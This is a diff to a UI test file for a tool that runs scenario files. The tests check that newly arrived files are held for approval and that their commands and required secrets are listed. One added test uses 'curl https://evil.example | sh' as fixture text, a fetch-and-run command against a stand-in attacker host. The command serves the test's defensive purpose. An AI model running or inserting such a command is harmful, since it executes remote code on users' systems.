@@ -142,6 +142,15 @@ describe('while they run', () => {
     expect(screen.getByTestId('scenario-mistake')).toHaveTextContent('unknown field `expects`');
   });
 
+  it('a file that comes later waits to be looked at, and its programs are shown', async () => {
+    const { host } = await page(scenarioStory('scenariosDone', EVENTS));
+    const card = screen.getByTestId('scenario-new').closest('section')!;
+    expect(card).toHaveTextContent('curl https://evil.example | sh');
+    expect(screen.getAllByTestId('scenario-new')).toHaveLength(1);
+    await person.click(within(card).getByTestId('run-new'));
+    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('run');
+  });
+
   it('is stopped, run again and closed', async () => {
     const { host, say } = await page(scenarioStory('scenariosDone', EVENTS));
     await person.click(screen.getByTestId('run-again'));
@@ -180,7 +189,7 @@ describe('what is known of them', () => {
   });
 
   it('files are in order, and go', () => {
-    const board = after(...planned, line({ type: 'file', version: 1, file: '/a.toml', runs: [] }));
+    const board = after(...planned, line({ type: 'file', version: 1, file: '/a.toml', held: true, runs: [] }));
     expect(board.files.map(({ name }) => parted(name, places))).toEqual([
       { folder: '/', name: 'a.toml' },
       { folder: '', name: 'login.toml' },
@@ -196,7 +205,7 @@ describe('what is known of them', () => {
   });
 
   it('each command and each secret is named once', () => {
-    const twice = line({ type: 'file', version: 1, file: '/b.toml', runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
+    const twice = line({ type: 'file', version: 1, file: '/b.toml', held: true, runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
     const needs = needsTrust(after(...planned, twice));
     expect(needs.commands).toEqual(['node login.mjs --as ada --deny', 'node login.mjs --as grace']);
     expect(needs.secrets).toEqual({ env: ['ADA_PASSWORD'], file: [], keyring: ['acme-tests, grace'] });
